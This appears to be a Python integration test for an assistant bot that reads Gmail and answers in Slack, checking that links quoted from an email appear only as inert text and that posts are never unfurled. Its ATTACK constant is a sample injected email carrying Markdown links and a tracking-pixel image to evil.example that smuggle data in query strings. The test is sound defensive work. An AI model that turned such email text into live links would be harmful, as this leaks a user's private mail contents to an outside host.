"""No leaks through Slack: an email that talks the model into links gets none live, and
nothing the bot posts is unfurled. The worker in process against moto's server, the
Gmail and Slack emulators and the scripted model, through the real clients."""

from __future__ import annotations

import re
import uuid
from email.message import EmailMessage

from infra.local.slack_requests import LOCAL_DM_CHANNEL, message_event
from mailroom.slack.parsing import parse_event_callback
from tests.integration.harness import PUBLIC, Harness

ATTACK = (
    "Your mailbox needs attention: [Reconnect Gmail](https://evil.example/login?d=budget-approved) "
    "and ![status](https://evil.example/pixel.png?d=hiring-two-engineers) or https://evil.example/x?d=secret"
)


def test_an_answer_quoting_links_from_an_email_shows_them_as_inert_text(agent: Harness):
    assert agent.gmail is not None
    message = EmailMessage()
    message["From"], message["To"], message["Subject"] = "Carol <carol@example.com>", "ada@example.com", "Heads up"
    message.set_content(ATTACK)
    agent.gmail.add_message("ada@example.com", bytes(message))

    answer = agent.say("What did Carol send me this week?")

    assert "evil.example" in answer.text, answer.text  # the host is named, as text
    outside_code = re.sub(r"`[^`]*`", "", answer.text)
    assert "<http" not in answer.text and "|" not in outside_code
    assert not re.search(r"https?://|evil\.example/", outside_code), answer.text
    posts = agent.slack.calls("chat.postMessage")
    assert posts and all(
        str(c["args"].get("unfurl_links")).lower() in {"false", "0"}
        and str(c["args"].get("unfurl_media")).lower() in {"false", "0"}
        for c in posts
    ), [c["args"] for c in posts]


def test_a_streamed_answer_quoting_links_from_an_email_shows_them_as_inert_text(agent: Harness):
    """In an agent thread the answer streams as `markdown_text`, which Slack renders as
    Markdown: a `[label](url)` there would be a live link with the email's label."""
    assert agent.gmail is not None
    message = EmailMessage()
    message["From"], message["To"], message["Subject"] = "Carol <carol@example.com>", "ada@example.com", "Heads up"
    message.set_content(ATTACK)
    agent.gmail.add_message("ada@example.com", bytes(message))

    thread = f"1795{uuid.uuid4().int % 10**6:06d}.000100"
    event = message_event("What did Carol send me this week?", thread_ts=thread, event_id=f"Ev{uuid.uuid4().hex[:10]}")
    command = parse_event_callback(event, PUBLIC)
    assert command is not None
    agent.run(command)

    assert agent.slack.calls("chat.startStream"), "the answer was not streamed"
    streamed = "".join(
        str(c["args"].get("markdown_text") or "")
        + "".join(str(k.get("text") or "") for k in c["args"].get("chunks") or [] if k.get("type") == "markdown_text")
        for name in ("chat.startStream", "chat.appendStream", "chat.stopStream")
        for c in agent.slack.calls(name)
    )
    [answer] = agent.slack.messages(channel=LOCAL_DM_CHANNEL, thread_ts=thread)
    for shown in (streamed, answer.text):
        assert "evil.example" in shown, shown  # the host is named, as text
        outside_code = re.sub(r"`[^`]*`", "", shown)
        assert "](" not in outside_code and "<http" not in shown, shown  # no Markdown or Slack link
        assert not re.search(r"https?://|evil\.example/", outside_code), shown
